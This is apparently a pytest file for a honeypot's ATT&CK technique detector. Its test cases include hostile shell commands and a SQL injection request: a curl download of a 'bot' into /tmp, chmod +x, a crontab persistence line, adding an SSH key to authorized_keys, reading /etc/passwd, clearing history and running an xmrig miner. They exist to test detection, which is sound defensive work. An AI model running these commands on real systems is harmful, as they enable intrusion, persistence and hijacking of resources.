"""One test per ATT&CK rule: a case that fires it and a near miss that does not."""

from __future__ import annotations

from typing import Any

import pytest

from decnet.intel.attack import PHASES, RULES, phase_of, rule, techniques_of
from decnet.intel.features import Features


def feat(
    counts: dict[str, float] | None = None,
    commands: list[str] | None = None,
    requests: list[str] | None = None,
) -> Features:
    return Features(
        counts=dict(counts or {}),
        commands=[(float(i), "s1", c, False) for i, c in enumerate(commands or [])],
        requests=list(requests or []),
    )


#: technique -> (firing case, near miss); a case is (features, tools, classes).
Case = tuple[Features, set[str], set[str]]
CASES: dict[str, tuple[Case, Case]] = {
    "T1595": ((feat(), {"masscan"}, set()), (feat({"http_paths": 19}), {"curl"}, set())),
    "T1595.002": ((feat(), {"nuclei"}, set()), (feat(), {"nmap"}, set())),
    "T1046": ((feat({"targets": 5}), set(), set()), (feat({"targets": 4}, ["nc 10.0.0.1 80"]), set(), set())),
    "T1110": ((feat({"login_failures": 5}), set(), set()), (feat({"login_failures": 4}), set(), set())),
    "T1110.001": (
        (feat({"login_failures": 40, "max_secrets_per_principal": 20, "principals": 1}), set(), set()),
        (feat({"login_failures": 40, "max_secrets_per_principal": 20, "principals": 4}), set(), set()),
    ),
    "T1110.003": (
        (feat({"login_failures": 30, "max_principals_per_secret": 12}), set(), set()),
        (feat({"login_failures": 30, "max_principals_per_secret": 3}), set(), set()),
    ),
    "T1110.004": (
        (feat({"login_failures": 24, "reused_pairs": 8}), set(), set()),
        (feat({"login_failures": 24, "reused_pairs": 2}), set(), set()),
    ),
    "T1078": ((feat({"logins": 1}), set(), set()), (feat({"login_failures": 50}), set(), set())),
    "T1190": (
        (feat(requests=["GET /item.php?id=1 UNION ALL SELECT NULL,NULL-- -"]), set(), set()),
        (feat(requests=["GET /index.php?id=12&lang=en"]), set(), set()),
    ),
    "T1059": ((feat({"commands": 1}), set(), set()), (feat({"logins": 1}), set(), set())),
    "T1105": (
        (feat(commands=["cd /tmp; curl -O http://198.51.100.1/bot"]), set(), set()),
        (feat(commands=["cat wget.log"]), set(), set()),
    ),
    "T1222.002": (
        (feat(commands=["chmod +x ./bot"]), set(), set()),
        (feat(commands=["echo chmod"]), set(), set()),
    ),
    "T1053.003": (
        (feat(commands=["(crontab -l; echo '* * * * * /tmp/x') | crontab -"]), set(), set()),
        (feat(commands=["cat /etc/hosts"]), set(), set()),
    ),
    "T1098.004": (
        (feat(commands=["echo ssh-rsa AAAA >> ~/.ssh/authorized_keys"]), set(), set()),
        (feat(commands=["ls ~/.ssh"]), set(), set()),
    ),
    "T1082": ((feat(commands=["uname -a"]), set(), set()), (feat(commands=["echo uname"]), set(), set())),
    "T1083": (
        (feat(commands=["ls -la /var/www"]), set(), set()),
        (feat(commands=["cat also.txt"]), set(), set()),
    ),
    "T1033": ((feat(commands=["whoami"]), set(), set()), (feat(commands=["echo identity"]), set(), set())),
    "T1016": ((feat(commands=["ip addr"]), set(), set()), (feat(commands=["echo ipaddr"]), set(), set())),
    "T1057": ((feat(commands=["ps aux"]), set(), set()), (feat(commands=["echo psst"]), set(), set())),
    "T1087": (
        (feat(commands=["cat /etc/passwd"]), set(), set()),
        (feat(commands=["cat /etc/hostname"]), set(), set()),
    ),
    "T1021": ((feat({"login_deckies": 2}), set(), set()), (feat({"login_deckies": 1}), set(), set())),
    "T1070.003": ((feat(commands=["history -c"]), set(), set()), (feat(commands=["history"]), set(), set())),
    "T1496": (
        (feat(commands=["./xmrig -o stratum+tcp://pool:3333"]), set(), set()),
        (feat(commands=["./update.sh"]), set(), set()),
    ),
    "T1071": ((feat(), set(), {"beaconing"}), (feat(), set(), {"scanner"})),
}


def test_every_rule_has_a_case_and_the_required_ones_exist() -> None:
    ids = [r["id"] for r in RULES]
    assert len(ids) == len(set(ids))
    assert set(ids) == set(CASES)
    required = {
        "T1046",
        "T1110",
        "T1110.001",
        "T1110.003",
        "T1110.004",
        "T1078",
        "T1059",
        "T1105",
        "T1082",
        "T1083",
        "T1033",
        "T1021",
        "T1190",
        "T1595",
    }
    assert required <= set(ids)
    for r in RULES:
        assert r["phase"] in PHASES and r["tactic"] and r["name"] and r["any"]


def _ids(case: Case) -> set[str]:
    features, tools, classes = case
    return {t.id for t in techniques_of(features, tools, classes)}


@pytest.mark.parametrize("technique", sorted(CASES))
def test_rule(technique: str) -> None:
    fires, misses = CASES[technique]
    assert technique in _ids(fires)
    assert technique not in _ids(misses)
    found = next(t for t in techniques_of(*fires) if t.id == technique)
    assert found.evidence and found.name == rule(technique)["name"]


def test_phase_is_the_furthest_reached() -> None:
    features = feat({"targets": 9, "logins": 1}, ["wget http://x/y"])
    techniques = techniques_of(features, set(), set())
    assert phase_of(techniques) == "installation"
    assert phase_of([]) == "none"


def test_attacker_text_cannot_blow_up_matching() -> None:
    evil: Any = ["a" * 100_000 + ";" * 10_000]
    assert techniques_of(feat(commands=evil, requests=evil), set(), set()) == []
